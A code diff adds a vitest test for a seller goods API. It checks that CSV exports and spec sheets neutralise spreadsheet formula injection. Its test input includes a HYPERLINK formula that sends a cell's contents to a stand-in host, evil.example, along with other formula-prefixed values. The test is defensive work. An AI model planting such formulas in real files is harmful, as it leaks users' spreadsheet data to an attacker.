@@ -1,5 +1,6 @@
 import { FLOW_TYPES } from '@wm/contracts';
 import { sql } from 'drizzle-orm';
+import Papa from 'papaparse';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { rows } from '../../db/client';
@@ -163,6 +164,23 @@ describe('goods', () => {
     expect(csv.headers['content-type']).toContain('text/csv');
     expect(csv.body).toContain(two.itemCode);
     expect(csv.body.split('\n').filter(Boolean)).toHaveLength(3);
+  });
+
+  it('exports a goods whose texts are spreadsheet formulas as plain text, in its CSV and its spec sheet', async () => {
+    const s = await approvedSeller();
+    const evil = { en: '=HYPERLINK("http://evil.example/?"&A1,"Open")', zh: '+橡木', ja: '@オーク' };
+    const g = (await post(s.token, '/api/v2/seller/goods', goodsBody({ name: evil, material: '-2+3', mainColor: '=1+1' }))).body.data;
+    await post(s.token, `/api/v2/seller/goods/${g.goodsId}/shelve`);
+    const rowsOf = (body: string) => Papa.parse<string[]>(body.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
+    const exported = rowsOf((await t.app.inject({ method: 'GET', url: '/api/v2/seller/goods/export', headers: { authorization: `Bearer ${s.token}` } })).body);
+    const [header, row] = exported;
+    expect(row![header!.indexOf('name')]).toBe(`'${evil.en}`);
+    expect(row![header!.indexOf('itemCode')]).toBe(g.itemCode);
+    const sheet = await t.app.inject({ method: 'GET', url: `/api/v2/goods/file/${g.goodsId}/spec-sheet.csv` });
+    expect(sheet.statusCode).toBe(200);
+    const fields = Object.fromEntries(rowsOf(sheet.body).slice(1) as [string, string][]);
+    expect(fields).toMatchObject({ Name: `'${evil.en}`, Material: "'-2+3", 'Main colour': "'=1+1", 'Item code': g.itemCode });
+    expect(sheet.body.split('\r\n').some((line) => /(^|,)[=+\-@]/.test(line))).toBe(false);
   });
 });
 
